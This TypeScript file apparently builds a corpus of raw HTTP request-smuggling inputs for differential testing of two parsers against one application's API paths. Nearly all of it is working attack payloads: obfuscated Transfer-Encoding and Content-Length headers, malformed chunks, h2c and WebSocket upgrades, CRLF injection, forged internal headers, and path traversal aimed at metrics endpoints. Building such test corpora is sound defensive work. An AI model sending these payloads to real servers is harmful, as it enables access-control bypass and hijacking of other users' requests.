/** Raw requests that would show a disagreement between two parsers, one for each family in the literature. */
export interface RawAttack {
  name: string;
  /** In latin1. */
  bytes: string;
}

const API_PATH = "/community/v1/about";
const CRLF = "\r\n";

/** A request line and headers, unchanged. */
const head = (line: string, headers: readonly string[]) => [line, ...headers, "", ""].join(CRLF);
const hex = (text: string) => text.length.toString(16);

/** Framing headers that one parser reads as `Transfer-Encoding: chunked`, and another one does not. */
const oddCodings = [
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:  chunked ",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, gzip",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: cow",
  "Transfer-Encoding: chunked;q=1",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: CHUNKED",
  "Transfer-Encoding: chunKed",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: \x0cchunked",
  "Transfer-Encoding: chunked\x00",
  "Transfer-Encoding: \x00chunked",
  "Transfer-Encoding: \xa0chunked",
  "Transfer-Encoding: chun\x00ked",
  "Transfer-Encoding: ",
  "Transfer-Encoding",
  "Transfer_Encoding: chunked",
  "Transfer Encoding: chunked",
  "Transfer-Encoding\x00: chunked",
  "\x00Transfer-Encoding: chunked",
  " Transfer-Encoding: chunked",
  "\tTransfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\r\n\tchunked",
  "Transfer-Encoding\r\n: chunked",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
  "Foo: bar\r\n\r\nTransfer-Encoding: chunked",
  "Content-Encoding: chunked",
  "TE: chunked",
  "Trailer: Transfer-Encoding",
];

/** Valid and invalid ways to state the length of a body of `n` bytes. */
const oddLengths = (n: number): string[] => [
  `Content-Length: ${n}\r\nContent-Length: ${n}`,
  `Content-Length: ${n}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${n}`,
  `Content-Length: ${n}, ${n}`,
  `Content-Length: 0, ${n}`,
  `Content-Length: +${n}`,
  `Content-Length: -${n}`,
  `Content-Length: -0`,
  `Content-Length: 0x${n.toString(16)}`,
  `Content-Length: 0${n}`,
  `Content-Length: 00000000000000000000000${n}`,
  `Content-Length: ${n} 0`,
  `Content-Length: 0 ${n}`,
  `Content-Length: ${n};`,
  `Content-Length: ${n}.0`,
  `Content-Length: ${n}e0`,
  `Content-Length: "${n}"`,
  `Content-Length:`,
  `Content-Length: `,
  `Content-Length: zero`,
  `Content-Length : ${n}`,
  `Content-Length\t: ${n}`,
  ` Content-Length: ${n}`,
  `Content-Length:\r\n ${n}`,
  `X: y\nContent-Length: ${n}`,
  `X: y\rContent-Length: ${n}`,
  `Content-Length: ${n}\x0b`,
  `Content-Length: \x0b${n}`,
  `Content-Length: ${n}\x00`,
  `Content-Length: \xb2`,
  `Content_Length: ${n}`,
  `Content Length: ${n}`,
  `Content-Length\x00: ${n}`,
  `Content-Length: 18446744073709551616`,
  `Content-Length: ${18446744073709551616n + BigInt(n)}`,
  `Content-Length: 4294967296`,
  `Content-Length: 99999999999999999999999999`,
  `Content-Length: ${Number.MAX_SAFE_INTEGER}`,
];

/** Chunked bodies whose end depends on the parser's strictness. `more` follows them. */
const oddChunks = (more: string): string[] => [
  `0\r\n\r\n${more}`,
  `0\n\n${more}`,
  `0\r\r${more}`,
  `00000\r\n\r\n${more}`,
  `0;a=b\r\n\r\n${more}`,
  `0;a="\r\n\r\n${more}"`,
  `0;\n\r\n${more}`,
  `0 ;a\r\n\r\n${more}`,
  `0 \r\n\r\n${more}`,
  ` 0\r\n\r\n${more}`,
  `0x0\r\n\r\n${more}`,
  `+0\r\n\r\n${more}`,
  `-0\r\n\r\n${more}`,
  `-1\r\n\r\n${more}`,
  `1\r\nZ\r\n0\r\n\r\n${more}`,
  `1\r\nZ0\r\n\r\n${more}`,
  `1;a\nb\r\nZ\r\n0\r\n\r\n${more}`,
  `1\nZ\n0\n\n${more}`,
  `2\r\nZ\r\n0\r\n\r\n${more}`,
  `1${";x".repeat(9_000)}\r\nZ\r\n0\r\n\r\n${more}`,
  `FFFFFFFFFFFFFFFF\r\nZ\r\n0\r\n\r\n${more}`,
  `100000000000000000\r\n\r\n${more}`,
  `fffffffe\r\n${more}`,
  `${hex(more)}\r\n${more}\r\n0\r\n\r\n`,
  `0\r\nContent-Length: 5\r\n\r\n${more}`,
  `0\r\nTransfer-Encoding: chunked\r\n\r\n${more}`,
  `0\r\nX: y\n\r\n${more}`,
  `0\r\n X: y\r\n\r\n${more}`,
  `z\r\n\r\n${more}`,
  `\r\n0\r\n\r\n${more}`,
];

/** @param innerTarget method and path of the hidden request */
export function smugglingCorpus(innerTarget: string): RawAttack[] {
  const attacks: RawAttack[] = [];
  const add = (name: string, bytes: string) => attacks.push({ name: `${attacks.length} ${name}`, bytes });
  const whole = `${innerTarget} HTTP/1.1\r\nHost: api\r\n\r\n`;
  const prefix = `${innerTarget} HTTP/1.1\r\nHost: api\r\nX-Swallowed: `;
  const HOST = "Host: a";
  const length = (text: string) => `Content-Length: ${text.length}`;
  const bodiless = ["GET", "HEAD", "DELETE", "OPTIONS"];
  const withBody = ["POST", "PUT", "PATCH"];

  for (const method of [...bodiless, ...withBody]) {
    for (const inner of [whole, prefix]) {
      for (const connection of [
        "content-length",
        "Content-Length, close",
        "keep-alive, content-length",
        "close, transfer-encoding, content-length",
        "host, authorization, x-service-secret, content-length",
      ])
        add(
          `${method} CL.0 by Connection: ${connection}`,
          head(`${method} ${API_PATH} HTTP/1.1`, [HOST, `Connection: ${connection}`, length(inner)]) + inner,
        );
      add(`${method} CL.0`, head(`${method} ${API_PATH} HTTP/1.1`, [HOST, length(inner)]) + inner);
    }
    const chunked = `0\r\n\r\n${prefix}`;
    for (const headers of [
      [`Content-Length: 5`, "Transfer-Encoding: chunked"],
      ["Transfer-Encoding: chunked", "Content-Length: 5"],
      [length(chunked), "Transfer-Encoding: chunked"],
    ])
      add(`${method} CL and TE`, head(`${method} ${API_PATH} HTTP/1.1`, [HOST, ...headers]) + chunked);
    add(`${method} TE.0`, head(`${method} ${API_PATH} HTTP/1.1`, [HOST, "Transfer-Encoding: chunked"]) + chunked);
  }

  for (const coding of oddCodings) {
    const body = `0\r\n\r\n${prefix}`;
    add(`TE.TE ${coding}`, head("POST /community/v1/sms/login HTTP/1.1", [HOST, coding]) + body);
    add(`CL.TE ${coding}`, head("POST /community/v1/sms/login HTTP/1.1", [HOST, length(body), coding]) + body);
    add(
      `TE.CL ${coding}`,
      head("POST /media/x HTTP/1.1", [HOST, coding, "Content-Length: 4"]) + `${hex(prefix)}\r\n${prefix}\r\n0\r\n\r\n`,
    );
  }

  for (const odd of oddLengths(prefix.length)) {
    add(`CL ${odd}`, head("POST /community/v1/sms/login HTTP/1.1", [HOST, odd]) + prefix);
    add(`CL ${odd} on GET`, head(`GET ${API_PATH} HTTP/1.1`, [HOST, odd]) + prefix);
  }

  for (const chunks of oddChunks(prefix)) {
    add(
      `chunks ${chunks.slice(0, 20)}`,
      head("POST /community/v1/sms/login HTTP/1.1", [HOST, "Transfer-Encoding: chunked"]) + chunks,
    );
    add(
      `chunks ${chunks.slice(0, 20)} on a page`,
      head("POST /login HTTP/1.1", [HOST, "Transfer-Encoding: chunked"]) + chunks,
    );
  }

  for (const folded of [
    "X: a\r\n b",
    "X: a\r\n\tb",
    "X:\r\n \r\n Content-Length: 9",
    "Host: a\r\n b",
    "Connection:\r\n content-length",
    " X: before all others",
  ])
    add(`obs-fold ${folded}`, head(`GET ${API_PATH} HTTP/1.1`, [folded, HOST, length(prefix)]) + prefix);

  for (const end of ["\n", "\r", "\n\r", "\r\r\n", "\x0b\r\n", "\x85", " \r\n"]) {
    const lines = [`POST ${API_PATH} HTTP/1.1`, HOST, length(prefix), ""];
    add(`lines that end in ${JSON.stringify(end)}`, lines.join(end) + end + prefix);
    add(`a request line that ends in ${JSON.stringify(end)}`, `GET ${API_PATH} HTTP/1.1${end}${HOST}\r\n\r\n${whole}`);
    add(`a head that ends in ${JSON.stringify(end)}`, `GET ${API_PATH} HTTP/1.1\r\n${HOST}\r\n${end}${whole}`);
    add(
      `a value with ${JSON.stringify(end)}`,
      head(`GET ${API_PATH} HTTP/1.1`, [HOST, `User-Agent: a${end}X-Client-Ip: 9.9.9.9`]),
    );
  }

  for (const expect of [
    "100-continue",
    "100-Continue",
    "100-continue, x",
    "x, 100-continue",
    "200-ok",
    "",
    "y 100-continue",
    "100-continue\r\nExpect: 100-continue",
  ]) {
    add(
      `Expect: ${expect}`,
      head("POST /community/v1/sms/login HTTP/1.1", [HOST, `Expect: ${expect}`, length(prefix)]) + prefix,
    );
    add(
      `Expect: ${expect}, body kept back`,
      head("POST /community/v1/sms/login HTTP/1.1", [HOST, `Expect: ${expect}`, length(whole)]),
    );
    add(
      `Expect: ${expect} on GET`,
      head(`GET ${API_PATH} HTTP/1.1`, [HOST, `Expect: ${expect}`, length(prefix)]) + prefix,
    );
  }

  const key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
  for (const [path, headers] of [
    ["/chat", ["Upgrade: websocket", "Connection: Upgrade", key, "Sec-WebSocket-Version: 777"]],
    ["/chat", ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"]],
    ["/chat", ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13"]],
    ["/chat", ["Upgrade: websocket", "Connection: Upgrade", key, "Sec-WebSocket-Version: 13"]],
    [
      "/chat",
      ["Upgrade: websocket", "Connection: Upgrade, content-length", key, "Sec-WebSocket-Version: 13", length(prefix)],
    ],
    [
      "/chat",
      ["Upgrade: websocket", "Connection: Upgrade", key, "Sec-WebSocket-Version: 13", "Transfer-Encoding: chunked"],
    ],
    ["/chat", ["Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"]],
    ["/chat", ["Upgrade: websocket, h2c", "Connection: Upgrade", key, "Sec-WebSocket-Version: 13"]],
    ["/chat", ["Upgrade: websocket"]],
    ["/chat/../community/v1/about", ["Upgrade: websocket", "Connection: Upgrade", key, "Sec-WebSocket-Version: 13"]],
    ["/%63hat", ["Upgrade: websocket", "Connection: Upgrade", key, "Sec-WebSocket-Version: 13"]],
    [API_PATH, ["Upgrade: websocket", "Connection: Upgrade", key, "Sec-WebSocket-Version: 13"]],
    [API_PATH, ["Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"]],
    [API_PATH, ["Upgrade: TLS/1.0", "Connection: Upgrade"]],
  ] as const) {
    for (const method of ["GET", "POST", "HEAD"])
      add(
        `Upgrade ${method} ${path} ${headers.join("; ")}`,
        head(`${method} ${path} HTTP/1.1`, [HOST, ...headers]) + whole + prefix,
      );
  }

  for (const version of [
    "HTTP/1.0",
    "HTTP/0.9",
    "HTTP/1.2",
    "HTTP/1.9",
    "HTTP/2.0",
    "HTTP/2",
    "http/1.1",
    "HTTP/1.1 x",
    "HTTP/01.1",
    "HTTP/1,1",
    "ICE/1.0",
    "RTSP/1.0",
    "",
  ]) {
    add(
      `${version} with TE`,
      head(`POST /community/v1/sms/login ${version}`, [HOST, "Transfer-Encoding: chunked"]) + `0\r\n\r\n${prefix}`,
    );
    add(
      `${version} kept alive`,
      head(`GET ${API_PATH} ${version}`, [HOST, "Connection: keep-alive", length(prefix)]) + prefix,
    );
    add(`${version} without Host`, head(`GET ${API_PATH} ${version}`, []) + whole);
  }
  add("HTTP/2 by prior knowledge", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${whole}`);

  for (const target of [
    `http://api${API_PATH}`,
    `http://127.0.0.1/metrics`,
    `https://a${API_PATH}`,
    `HTTP://a${API_PATH}`,
    "http:/metrics",
    "http:metrics",
    "//api/metrics",
    "a:80",
    "*",
    "metrics",
    "?metrics",
    "#",
    `${API_PATH}#/../../metrics`,
    "/community/../metrics",
    "/community/v1/../../metrics",
    "/community/%2e%2e/metrics",
    "/community/%2E%2e/noted",
    "/community/.%2e/readyz",
    "/community/%2e./readyz",
    "/community/%2e/%2e%2e/metrics",
    "/media/../metrics",
    "/media/%2e%2e/metrics",
    "/media/x/../../noted",
    "/media/..%2fmetrics",
    "/media/..%5cmetrics",
    "/media/..\\metrics",
    "/media/..;/metrics",
    "/media/%252e%252e/metrics",
    "/media/..%00/metrics",
    "/media/%c0%ae%c0%ae/metrics",
    "/media/%uff0e%uff0e/metrics",
    "/media//..//metrics",
    "/media/.././metrics",
    "/video-file/upload/../../../metrics",
    "/video-file/upload/%2e%2e/%2e%2e/%2e%2e/metrics",
    "/video-file/upload/../../../../noted",
    "/metrics",
    "/noted",
    "/readyz/../metrics",
    "/community/v1/about /metrics",
    "/community/v1/about%20HTTP/1.1%0d%0aHost:%20api%0d%0a%0d%0aGET%20/metrics",
    "/community/v1/about?\r\nX: y",
    "/community/v1/about\xa0",
    "/community/v1/\u00e9",
  ]) {
    add(`GET ${target}`, head(`GET ${target} HTTP/1.1`, [HOST]));
    add(`POST ${target}`, head(`POST ${target} HTTP/1.1`, [HOST, length(whole)]) + whole);
  }
  add("CONNECT", head("CONNECT api:3001 HTTP/1.1", ["Host: api:3001"]) + whole);
  for (const method of [
    "TRACE",
    "get",
    "GET\t",
    "G ET",
    "",
    "DELETE\x00",
    "PROPFIND",
    "M-SEARCH",
    "SOURCE",
    "QUERY",
    "BREW",
  ])
    add(`method ${method}`, head(`${method} ${API_PATH} HTTP/1.1`, [HOST, length(prefix)]) + prefix);

  const good = head(`GET ${API_PATH} HTTP/1.1`, [HOST]);
  add("two at once", good + good);
  add("twenty at once", good.repeat(20));
  add("one and a half", good + good.slice(0, 20));
  add("an odd one between two", good + head(`GET ${API_PATH} HTTP/1.1`, [HOST, length(prefix)]) + prefix + good);
  add("an empty line before", `\r\n\r\n${good}`);
  add("bytes after Connection: close", head(`GET ${API_PATH} HTTP/1.1`, [HOST, "Connection: close"]) + whole);
  add("a body that never comes", head("POST /community/v1/sms/login HTTP/1.1", [HOST, "Content-Length: 100"]));
  add(
    "a body that comes in half",
    head("POST /community/v1/sms/login HTTP/1.1", [HOST, "Content-Length: 1000"]) + prefix,
  );
  add(
    "a piece of a film that comes in half",
    head("PATCH /video-file/upload/x HTTP/1.1", [
      HOST,
      "Content-Length: 1000",
      "Content-Type: application/offset+octet-stream",
    ]) + prefix,
  );
  for (const twice of [
    ["Host: a", "Host: api"],
    ["Host: a, api"],
    ["Host: a\tb"],
    ["Host: a:80:80"],
    ["Host:"],
    ["Host: a", "Authorization: Bearer x", "Authorization: Bearer y"],
    ["Host: a", "Content-Type: text/plain", "Content-Type: application/json"],
    ["Host: a", "X-Service-Secret: x", "X-Client-Ip: 9.9.9.9", "X-Request-Id: y"],
    ["Host: a", "X-Http-Method-Override: DELETE"],
    ["Host: a", "X-Original-Url: /metrics", "X-Rewrite-Url: /noted"],
    ["Host: a", "Proxy-Connection: keep-alive", "Keep-Alive: timeout=100", "TE: trailers", "Trailer: X"],
    ["Host: a", `X: ${"y".repeat(15_000)}`],
    ["Host: a", ...Array.from({ length: 1_900 }, (_none, at) => `X-${at}: y`)],
    ["Host: a", "User-Agent: \x7f"],
    ["Host: a", "Range: bytes=0-1", "Range: bytes=2-3"],
    ["Host: a", ": no name"],
    ["Host: a", "no colon"],
  ]) {
    add(`headers ${twice.join("; ").slice(0, 60)}`, head(`GET ${API_PATH} HTTP/1.1`, twice));
    add(
      `headers ${twice.join("; ").slice(0, 60)} with a body`,
      head(`POST /community/v1/sms/login HTTP/1.1`, [...twice, length(prefix)]) + prefix,
    );
  }
  return attacks;
}
